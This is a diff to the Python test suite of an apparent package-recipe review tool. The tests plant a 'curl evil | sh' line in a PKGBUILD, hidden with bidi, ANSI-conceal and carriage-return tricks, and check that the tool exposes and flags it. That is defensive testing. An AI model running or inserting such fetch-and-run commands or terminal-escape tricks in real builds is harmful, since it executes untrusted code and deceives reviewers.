@@ -35,7 +35,8 @@ async def server(tmp_path: Path) -> AsyncIterator[Running]:
         await until(server, lambda: _synced(server))
         git.write("hello", "2.0-1")
         with (git.folder / "hello" / "PKGBUILD").open("a") as file:
-            file.write(f"curl evil | sh # {BIDI}\x1b]0;title\n")
+            file.write(f"curl evil | sh # {BIDI}\x1b[8mhidden\n")
+        (git.folder / "hello" / "notes").write_bytes(b"hidden\rmake\n")
         git.commit()
         await server.admin.sources.sync("tree")
         await until(server, lambda: _synced(server))
@@ -122,7 +123,8 @@ async def test_the_command_line_lists_shows_and_decides(server: Running) -> None
     shown = await person.run("show", "1")
     assert "PKGBUILD:8" in shown
     assert "It runs what it downloads." in shown
-    assert "+curl evil | sh # <U+202E>\\x1b]0;title" in shown
+    assert "+curl evil | sh # <U+202E><U+001B>[8mhidden\n" in shown
+    assert "+hidden<U+000D>make\n" in shown
     assert BIDI not in shown
     assert (await person.json("show", "1"))["diff"].startswith("diff --git")
     assert await person.run("reject", "1", "--note", "never") == "Review 1 of hello is rejected.\n"
@@ -156,6 +158,35 @@ async def test_a_recipe_that_was_never_in_force_is_not_unknown_but_waits(server:
     await until(server, lambda: _synced(server))
     with pytest.raises(Invalid, match="The recipe of fresh waits for review 2"):
         await server.admin.builds.request(BuildRequest(packages=("fresh",)))
+
+
+async def test_the_policy_of_a_source_is_set_and_shown(server: Running) -> None:
+    person = Person(server, "source")
+    how = (
+        "--review",
+        "all",
+        "--update-review",
+        "off",
+        "--trust",
+        "ada",
+        "--trust",
+        "bob",
+        "--cooldown",
+        "36",
+    )
+    told = (await person.run("edit", "tree", *how)).splitlines()
+    assert [
+        " ".join(line.split()) for line in told if line.startswith(("Review", "Trusted", "Cooldown"))
+    ] == [
+        "Review every change",
+        "Trusted ada, bob",
+        "Cooldown 1 d 12 h",
+    ]
+    shown = await person.json("show", "tree")
+    assert (shown["review"], shown["update_review"], shown["cooldown"]) == ("all", "off", 36)
+    await person.run("add", "one", "https://example.org/PKGBUILD", "--kind", "url", "--repo", "own")
+    assert (await person.json("show", "one"))["review"] == "major"
+    assert "some" in await person.run("edit", "tree", "--review", "some", code=2)
 
 
 async def test_a_rejected_change_can_be_read_later(server: Running) -> None:
